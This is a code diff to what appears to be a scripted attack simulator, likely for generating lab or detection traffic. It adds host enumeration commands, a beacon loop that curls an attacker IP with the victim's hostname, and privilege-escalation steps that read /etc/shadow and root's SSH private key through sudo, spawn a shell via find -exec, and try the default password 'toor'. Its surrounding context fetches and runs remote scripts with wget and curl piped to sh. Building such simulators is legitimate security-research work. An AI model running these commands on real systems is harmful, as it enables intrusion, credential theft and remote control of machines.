@@ -21,6 +21,11 @@ async function reverseShell(c: AttackCtx): Promise<void> {
     "cat /etc/os-release",
     "ls -la /home",
     "netstat -tln || ss -tln",
+    "cat /etc/passwd | cut -d: -f1",
+    "find / -perm -4000 -type f 2>/dev/null | head",
+    "ls -la /var/www/html",
+    "cat /etc/crontab",
+    "uname -a",
     "exit",
   ];
   const feed = `sleep 3; printf '%s\\n' ${cmds.map((x) => `'${x}'`).join(" ")}; sleep 4`;
@@ -39,6 +44,13 @@ async function toolDownload(c: AttackCtx): Promise<void> {
   await viaShell(c, `wget -q -O /tmp/.enum.sh ${url}`);
   await viaShell(c, "chmod +x /tmp/.enum.sh && /tmp/.enum.sh");
   await viaShell(c, `curl -s ${url} | sh`);
+  // A beacon: the implant checks in with the attacker a few times (bounded loop).
+  const beacon = `http://${c.plan.atkIp}:${WEB_PORT}/b?h=$(hostname)&n=`;
+  await viaShell(
+    c,
+    `for i in 1 2 3 4 5 6; do curl -s -m 2 "${beacon}$i" >/dev/null; sleep 1; done`,
+    20,
+  );
 }
 
 async function crack(c: AttackCtx): Promise<void> {
@@ -57,7 +69,11 @@ async function privesc(c: AttackCtx): Promise<void> {
     `echo '${pw}' | sudo -S -p '' -l`,
     `echo '${pw}' | sudo -S -p '' cat /etc/shadow`,
     `echo '${pw}' | sudo -S -p '' find /root -maxdepth 1`,
+    `echo '${pw}' | sudo -S -p '' find . -maxdepth 0 -exec /bin/sh -c id \\;`,
+    `echo '${pw}' | sudo -S -p '' cat /root/.ssh/id_rsa`,
+    `echo '${pw}' | sudo -S -p '' -u ${c.plan.accounts[0].name} id`,
     "echo wrong | su -c id root",
+    "echo toor | su -c id root",
     "exit",
   ].join("; ");
   await act(c.atk, sshCmd(c.plan.atkIp, v.name, pw, srv, script), 30);
